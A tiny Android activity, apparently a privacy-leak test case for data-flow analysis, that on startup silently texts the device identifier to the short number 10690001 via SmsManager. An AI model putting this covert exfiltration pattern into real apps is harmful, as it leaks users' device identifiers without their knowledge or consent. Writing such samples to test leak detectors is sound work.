package cn.shanhai.arrayindex;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    String[] parts = new String[2];
    parts[0] = Device.id(this);
    parts[1] = "1.0";
    SmsManager.getDefault().sendTextMessage("10690001", null, parts[0], null, null);
  }
}
